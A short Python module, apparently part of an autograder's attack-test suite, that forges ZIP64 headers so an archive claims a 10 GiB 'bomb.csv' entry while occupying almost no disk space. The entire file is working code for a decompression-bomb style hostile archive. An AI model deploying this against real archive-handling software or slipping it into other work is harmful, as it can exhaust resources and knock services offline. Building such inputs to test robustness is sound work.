"""Stores ten gigabytes that take no room on the disk."""

import struct
import zipfile
from pathlib import Path

from autograde.attacks.archives.people import Cast
from autograde.attacks.archives.zipping import pack

SIZE = 10 * 2**30


def archive(path: Path, cast: Cast) -> None:
    """Write the archive."""
    name = cast.mine("bomb.csv")
    extra = struct.pack("<HHQQ", 1, 16, SIZE, SIZE)
    local = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 45, 0, 0, 0, 0, 0, 2**32 - 1, 2**32 - 1, len(name.encode()), len(extra)
    )
    pack(path, cast, {})
    with zipfile.ZipFile(path) as archive:
        start, count = archive.start_dir, len(archive.infolist())
    data = path.read_bytes()
    table, end = data[start:-22], data[-22:]
    table += (
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\1\2",
            45,
            45,
            0,
            0,
            0,
            0,
            0,
            2**32 - 1,
            2**32 - 1,
            len(name.encode()),
            len(extra),
            0,
            0,
            0,
            0,
            start,
        )
        + name.encode()
        + extra
    )
    at = start + len(local) + len(name.encode()) + len(extra) + SIZE
    end64 = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count + 1, count + 1, len(table), at)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, at + len(table), 1)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count + 1, count + 1, len(table), 2**32 - 1, 0)
    with path.open("wb") as file:
        file.write(data[:start] + local + name.encode() + extra)
        file.seek(at)
        file.write(table + end64 + locator + end)
